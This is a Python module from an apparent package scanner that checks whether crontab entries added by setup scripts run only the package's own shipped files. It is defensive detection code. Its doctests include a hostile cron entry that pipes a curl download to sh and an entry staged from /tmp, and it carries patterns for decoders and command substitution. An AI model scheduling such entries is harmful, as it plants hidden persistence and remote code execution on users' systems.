"""Scheduled jobs that run only the package's own scripts.

A skill that automates a routine often ships a setup script adding a crontab entry such
as ``0 12 * * * cd $SKILL_DIR && python3 scripts/fetch.py >> log 2>&1``. What runs on
the schedule is a file of the package, which the judge reads and judges like every other
file: the entry adds no code of its own. Persistence as an attack schedules what the
reader cannot see: a download piped to a shell, a file dropped elsewhere, a command
assembled at run time. An entry is the package's own when every step of its command is a
change of folder, a folder made for logs, or a run of a file the package ships, with
output redirected to a log at most, and nothing is fetched, decoded or substituted. A
variable in the entry is read from the script when the script sets it once, to a plain
value, to the script's own folder (``$(cd "$(dirname "$0")" && pwd)``) or to an
interpreter found on the path (``$(which node)``); a variable set any other way leaves
the entry unread.

>>> shipped = {"scripts/fetch.py", "SKILL.md"}
>>> schedules_own_script('echo "0 9 * * * python3 scripts/fetch.py" | crontab -', "", shipped)
True
>>> schedules_own_script('echo "0 9 * * * curl -s x.invalid/p | sh" | crontab -', "", shipped)
False
"""

from __future__ import annotations

import re
from collections.abc import Collection, Mapping

from .normalise_shell import shell_words
from .sensitive import NETWORK_TOOL
from .sourced_settings import sourced_texts

_ENTRY = re.compile(
    r"(?:^|[\"'\s])(?:@(?:reboot|hourly|daily|weekly|monthly|yearly|annually)"
    r"|(?:[\d*/,\-]+\s+){4}[\d*/,\-A-Za-z]+)\s+(?P<command>[^\"'\n]+)"
)
"""A crontab entry (five time fields or an ``@`` schedule) and its command, up to a quote."""
_VARIABLE = re.compile(r"\$\{?([A-Za-z_]\w*)\}?")
_UNSAFE = re.compile(r"://|`|\$\((?!\s*pwd\s*\))|\b(?:eval|base64|xxd|openssl)\b")
"""A fetch, a command substitution other than ``$(pwd)`` or a decoder."""
_TEMPORARY = re.compile(r"/(?:tmp|dev/shm)/")
_LOG_TARGET = re.compile(r"(?:^/dev/null|\.(?:log|txt|out|err))$")
_OWN_FOLDER = re.compile(
    r"""^["']?\$\(\s*(?:cd\s+["']?\$\(\s*dirname\s+["']?\$\{?(?:0|BASH_SOURCE(?:\[0\])?)\}?["']?\s*\)"""
    r"""(?:/\.\.)?["']?\s*(?:&&|;)\s*)?pwd(?:\s+-P)?\s*\)["']?$"""
)
"""The folder of the script itself, or the package folder above it, which the judge reads."""
_FOUND_INTERPRETER = re.compile(
    r"""^["']?\$\(\s*(?:which|command\s+-v)\s+(?P<name>[a-z][\w.]*)\s*\)["']?$"""
)
_INTERPRETERS = frozenset(
    {"python", "python3", "node", "bash", "sh", "zsh", "bun", "deno", "ruby", "perl", "php"}
)
_CODE_SUFFIX = re.compile(r"\.(?:py|sh|bash|zsh|js|mjs|cjs|ts|rb|pl|php)$")
_FEEDERS = frozenset({"echo", "printf", "grep", "sed", "sort", "uniq", "true"})
"""Programs that may print or filter what goes into the crontab."""
_SEPARATORS = frozenset({"&&", ";", "||"})
_REDIRECTS = frozenset({">", ">>", "2>", "2>>", "&>", "&>>", "<"})


def schedules_own_script(line: str, script: str, shipped: Collection[str]) -> bool:
    """Every crontab entry ``line`` adds (directly, or through a variable the ``script``
    sets to a quoted value) runs only files of ``shipped``; False when it adds none.
    A line of a multi-line ``( crontab -l; cat <<EOF ... EOF ) | crontab -`` group is
    judged by the whole group, and variables may come from the package's own settings
    script that ``script`` sources."""
    script = with_sourced_settings(script, shipped)
    block = crontab_block(line, script)
    if block is not None:
        feeder, commands = block
        return _feeds_only_entries(feeder) and all(
            (resolved := _resolved(command, script)) is not None
            and _runs_own_files(resolved, shipped)
            for command in commands
        )
    entries = [m.group("command") for m in _ENTRY.finditer(line)]
    for name in _VARIABLE.findall(line):
        values = _assigned_values(name, script)
        if len(values) > 1:
            return False  # which entry is added depends on the order the script runs
        for value in values:
            entries += [m.group("command") for m in _ENTRY.finditer(_unquoted(value))]
    return (
        bool(entries)
        and _feeds_only_entries(line)
        and all(
            (resolved := _resolved(command, script)) is not None
            and _runs_own_files(resolved, shipped)
            for command in entries
        )
    )


def _feeds_only_entries(line: str) -> bool:
    """What ``line`` hands to ``crontab`` is the current table (filtered at most) and the
    entries it prints: no file, download or other program adds lines unseen.

    >>> _feeds_only_entries('(crontab -l | grep -v job; echo "$JOB") | crontab -')
    True
    >>> _feeds_only_entries('crontab -l | { cat; echo "$JOB"; } | crontab -')
    True
    >>> _feeds_only_entries('(cat /tmp/staged; echo "$JOB") | crontab -')
    False
    """
    bare = re.sub(r"\"(?:[^\"\\]|\\.)*\"|'[^']*'", '""', line)
    if re.search(r"(?<![\d&])<", bare):
        return False
    for command in re.split(r"\|\|?|;|&&|[(){}]", bare):
        words = [w for w in command.split() if not re.match(r"^\d?>>?", w)]
        if not words:
            continue
        if words[0] == "crontab":
            if any(w not in ("-l", "-", "-u") and not w.startswith("-") for w in words[1:2]):
                return False
        elif words[0] not in _FEEDERS and words != ["cat"]:  # a bare ``cat`` passes stdin on
            return False
    return True


def _resolved(command: str, script: str, depth: int = 3) -> str | None:
    """``command`` with each variable the ``script`` sets replaced by its value; None when
    a variable is set more than once or to a value that runs something."""
    for name in dict.fromkeys(_VARIABLE.findall(command)):
        values = _assigned_values(name, script)
        if not values:
            continue  # set by the environment (``$HOME``)
        if len(values) > 1:
            return None
        value = values.pop()
        if _OWN_FOLDER.match(value):
            continue  # a path inside the package: left to the shipped-file check
        found = _FOUND_INTERPRETER.match(value)
        value = found.group("name") if found else _unquoted(value)
        if _UNSAFE.search(value) or depth == 0:
            return None
        inner = _resolved(value, script, depth - 1)
        if inner is None:
            return None
        command = re.sub(rf"\$(?:{name}\b|\{{{name}\}})", inner.replace("\\", "\\\\"), command)
    return command


def _assigned_values(name: str, script: str) -> set[str]:
    """Every value the ``script`` assigns to variable ``name``, as written; an assignment
    that keeps a value set before (``X="${X:-default}"``) assigns its default."""
    values = re.findall(rf"^\s*(?:export\s+|local\s+|readonly\s+)?{name}=(.*?)\s*$", script, re.M)
    default = re.compile(rf"^([\"']?)\$\{{{name}:-([^}}]*)\}}\1$")
    return {
        (m.group(1) + m.group(2) + m.group(1)) if (m := default.match(v)) else v for v in values
    }


def _unquoted(value: str) -> str:
    if len(value) > 1 and value[0] == value[-1] and value[0] in "\"'":
        return value[1:-1]
    return value


def _runs_own_files(command: str, shipped: Collection[str]) -> bool:
    if _UNSAFE.search(command) or NETWORK_TOOL.search(command):
        return False
    words = shell_words(command.replace("2>&1", ""))
    if not words or "|" in words:
        return False
    steps: list[list[str]] = [[]]
    for word in words:
        if word in _SEPARATORS:
            steps.append([])
        else:
            steps[-1].append(word)
    ran_own = False
    for step in steps:
        kept = _without_redirects(step)
        if kept is None or not kept or any(_TEMPORARY.search(word) for word in kept):
            return False
        if kept[0] in ("cd", "mkdir"):
            continue
        runner = kept[0].rsplit("/", 1)[-1]
        target = kept[1] if runner in _INTERPRETERS and len(kept) > 1 else kept[0]
        if not _is_shipped(target, shipped):
            return False
        ran_own = True
    return ran_own


def _without_redirects(step: list[str]) -> list[str] | None:
    """The words of ``step`` but its redirections; None when output goes anywhere but a
    log file or nowhere (appended to a start-up file, it would become code)."""
    kept: list[str] = []
    redirected = False
    for word in step:
        if redirected:
            redirected = False
            if not _LOG_TARGET.search(word):
                return None
        elif word in _REDIRECTS:
            redirected = True
        else:
            kept.append(word)
    return kept


def _is_shipped(target: str, shipped: Collection[str]) -> bool:
    """``target`` names a code file of the package, from any folder the entry changed to
    (``./run.sh``, ``$SKILL_DIR/scripts/run.py``, ``scripts/run.py``)."""
    path = re.sub(r"^(?:\./|/)+", "", _VARIABLE.sub("", target))
    if not path or not _CODE_SUFFIX.search(path):
        return False
    return any(
        own == path or own.endswith("/" + path) or path.endswith("/" + own) for own in shipped
    )


def with_sourced_settings(script: str, shipped: Collection[str]) -> str:
    """``script`` followed by the text of each package file it sources, when ``shipped``
    maps paths to texts (its variables are then set where the judge can read them)."""
    if not isinstance(shipped, Mapping):
        return script
    return "\n".join([script, *sourced_texts(script, shipped)])


_GROUP_END = re.compile(r"^\s*[)}]\s*\|\s*crontab\s+-\s*$")
_GROUP_START = re.compile(r"^\s*[({]\s*crontab\s+-l\b")
_HEREDOC = re.compile(r"\bcat\s+<<-?\s*[\"']?(\w+)[\"']?\s*$")
_ENTRY_LINE = re.compile(
    r"^(?:@(?:reboot|hourly|daily|weekly|monthly|yearly|annually)|(?:[\d*/,\-]+\s+){4}"
    r"[\d*/,\-A-Za-z]+)\s+(?P<command>.+)$"
)
"""A whole here-document line that is a crontab entry (its command may hold quotes)."""
_NUMBER_FIELD = re.compile(r"\$\{?([A-Za-z_]\w*)\}?")
_GROUP_REACH = 40
"""Lines a crontab group may span."""


def crontab_block(line: str, script: str) -> tuple[str, list[str]] | None:
    """The crontab group ``line`` belongs to: the commands that feed ``crontab`` (its
    first and last lines, the here-document left out) and the command of each entry the
    here-document prints, time-field variables set once to a number filled in; None when
    ``line`` is not part of exactly one such group or an entry is not one.

    >>> script = "(crontab -l; cat << EOF\\n0 9 * * * python3 run.py\\nEOF\\n) | crontab -\\n"
    >>> crontab_block(") | crontab -", script)
    ('(crontab -l; cat ) | crontab -', ['python3 run.py'])
    """
    lines = script.split("\n")
    groups = []
    for start, text in enumerate(lines):
        if not _GROUP_START.match(text):
            continue
        reach = range(start, min(len(lines), start + _GROUP_REACH))
        end = next((i for i in reach if _GROUP_END.match(lines[i])), None)
        if end is not None and any(lines[i].strip() == line.strip() for i in range(start, end + 1)):
            groups.append((start, end))
    heredoc = _HEREDOC.search(lines[groups[0][0]]) if len(groups) == 1 else None
    if heredoc is None:
        return None
    start, end = groups[0]
    body = [text.strip() for text in lines[start + 1 : end]]
    terminator = heredoc.group(1)
    if terminator not in body or any(body[body.index(terminator) + 1 :]):
        return None  # unclosed, or more commands after the here-document
    commands = []
    for text in body[: body.index(terminator)]:
        if not text or text.startswith("#"):
            continue
        entry = _ENTRY_LINE.match(_numbers_filled(text, script))
        if entry is None:
            return None
        commands.append(entry.group("command"))
    feeder = lines[start][: heredoc.start()] + "cat " + lines[end].strip()
    return (feeder, commands) if commands else None


def _numbers_filled(entry: str, script: str) -> str:
    """``entry`` with each variable of its five time fields replaced by the number the
    script sets it to once; left as it is when any is set otherwise."""
    fields = entry.split(None, 5)
    if len(fields) < 6:
        return entry
    for index, field in enumerate(fields[:5]):
        for name in _NUMBER_FIELD.findall(field):
            values = _assigned_values(name, script)
            value = _unquoted(values.pop()) if len(values) == 1 else ""
            if not value.isdigit():
                return entry
            field = re.sub(rf"\$(?:{name}\b|\{{{name}\}})", value, field)
        fields[index] = field
    return " ".join(fields)
